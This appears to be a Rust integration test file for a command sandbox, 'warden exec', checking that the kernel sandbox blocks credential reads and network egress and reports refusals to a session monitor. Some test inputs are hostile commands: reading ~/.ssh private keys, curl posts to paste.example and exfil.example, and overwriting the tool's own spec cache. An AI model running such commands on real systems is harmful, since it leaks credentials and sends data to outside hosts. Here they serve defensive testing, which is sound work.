//! `warden exec`: real commands in the kernel sandbox, the policy loaded as `check` loads it.
//! The analysis never sees these commands: what is refused here, the kernel refused.

use serde_json::json;

use super::daemon::{decision, payload, Monitor};
use super::{home, warden, warden_env};

const KEY: &str = "SECRET-KEY-IN-EXEC";

#[test]
fn exec_passes_output_and_the_exit_code_through() {
    let h = home();
    let r = warden(
        h.path(),
        &[
            "exec",
            "--no-discover",
            "--",
            "bash",
            "-c",
            "echo out; echo err >&2; exit 7",
        ],
        b"",
    );
    assert_eq!((r.code, r.stdout.as_str()), (7, "out\n"), "{}", r.stderr);
    assert!(r.stderr.contains("err"));
    let r = warden(
        h.path(),
        &["exec", "--no-discover", "--", "no-such-program-xyz"],
        b"",
    );
    assert_eq!(r.code, 127, "{}", r.stderr);
    assert!(r.stderr.contains("not found"), "{}", r.stderr);
}

#[test]
fn exec_refuses_credential_reads_and_egress_the_analysis_never_saw() {
    let h = home();
    std::fs::create_dir_all(h.path().join(".ssh")).unwrap();
    std::fs::write(h.path().join(".ssh/id_ed25519"), KEY).unwrap();
    let r = warden(
        h.path(),
        &[
            "exec", "--no-discover", "--report", "--",
            "bash", "-c", "cat ~/.ss?/id_* ; python3 -c 'print(open(\"'$HOME'/.ssh/id_ed25519\").read())'; curl -sS -d x http://paste.example/ ; echo done",
        ],
        b"",
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!r.stdout.contains(KEY), "{}", r.stdout);
    assert!(
        r.stdout.contains("paste.example"),
        "the 403 body names the host: {}",
        r.stdout
    );
    assert!(
        r.stderr
            .contains("refused connection to `paste.example:80`"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("\"layer\": \"landlock\""), "{}", r.stderr);
}

#[test]
fn a_broken_policy_means_the_command_does_not_run() {
    let h = home();
    let bad = h.path().join("bad.yaml");
    std::fs::write(&bad, "version: 1\nrules: [{ id: x }]\n").unwrap();
    let marker = h.path().join("ran");
    let r = warden(
        h.path(),
        &[
            "exec",
            "--no-discover",
            "--policy",
            bad.to_str().unwrap(),
            "--",
            "touch",
            marker.to_str().unwrap(),
        ],
        b"",
    );
    assert_eq!(r.code, 125, "{}", r.stderr);
    assert!(r.stderr.contains("was not run"), "{}", r.stderr);
    assert!(!marker.exists());
}

#[test]
fn sandbox_off_in_the_policy_runs_plainly_and_says_so() {
    let h = home();
    let p = h.path().join("off.yaml");
    std::fs::write(&p, "version: 1\nsandbox: off\n").unwrap();
    let r = warden(
        h.path(),
        &[
            "exec",
            "--no-discover",
            "--policy",
            p.to_str().unwrap(),
            "--",
            "true",
        ],
        b"",
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("sandbox: off"), "{}", r.stderr);
}

const WATCH_POLICY: &str = r#"version: 1
rules:
  - id: session.sandbox-denied
    description: A session whose commands hit the sandbox is asked about
    match: { kind: exec, session: { sandbox_denied: { exists: true } } }
    decision: deny
    reason: an earlier command of this session tried what the sandbox refused
"#;

#[test]
fn refusals_reach_the_monitor_and_become_a_session_fact() {
    let h = home();
    let pol = h.path().join("watch.yaml");
    std::fs::write(&pol, WATCH_POLICY).unwrap();
    let m = Monitor::start(h.path(), &["--policy", pol.to_str().unwrap()]);
    let cwd = h.path().join("project");
    let ls = payload("s9", "Bash", json!({"command": "ls"}), &cwd);
    assert_eq!(decision(&m.hook(&ls)), "allow");
    let state = m.state.to_str().unwrap();
    let r = warden_env(
        h.path(),
        &[
            "exec",
            "--no-discover",
            "--session",
            "s9",
            "--tool-use-id",
            "toolu_1",
            "--state-dir",
            state,
            "--",
            "curl",
            "-sS",
            "https://exfil.example/",
        ],
        &[],
    );
    assert_ne!(r.code, 0);
    assert!(
        !r.stderr.contains("did not take the report"),
        "{}",
        r.stderr
    );
    let recs = m.records(&["--session", "s9"]);
    let rec = recs
        .iter()
        .find(|r| r["body"]["event"] == "SandboxDenied")
        .unwrap_or_else(|| panic!("{recs:?}"));
    assert_eq!(rec["body"]["tool_use_id"], "toolu_1");
    assert_eq!(rec["body"]["denied"], json!(["connect exfil.example:443"]));
    let r = m.hook(&ls);
    assert_eq!(decision(&r), "deny", "{}", r.stdout);
    assert!(r.stdout.contains("session.sandbox-denied"), "{}", r.stdout);
}

#[test]
fn the_spec_cache_is_used_and_cannot_be_written_from_inside() {
    let h = home();
    let state = h.path().join("elsewhere/state");
    let s = state.to_str().unwrap();
    let r = warden(
        h.path(),
        &["exec", "--no-discover", "--state-dir", s, "--", "true"],
        b"",
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let cache = state.join("sandbox-specs");
    let entries: Vec<_> = std::fs::read_dir(&cache).unwrap().collect();
    assert_eq!(entries.len(), 1);
    let script = format!("echo '{{}}' > {0}/evil.json; for f in {0}/*.json; do echo '{{}}' > $f; done; ls {0} | wc -l", cache.display());
    let r = warden(
        h.path(),
        &[
            "exec",
            "--no-discover",
            "--state-dir",
            s,
            "--",
            "bash",
            "-c",
            &script,
        ],
        b"",
    );
    assert_eq!(r.stdout.trim(), "1", "{}", r.stderr);
    let entry = std::fs::read_dir(&cache)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    assert_ne!(std::fs::read_to_string(entry).unwrap(), "{}\n");
}
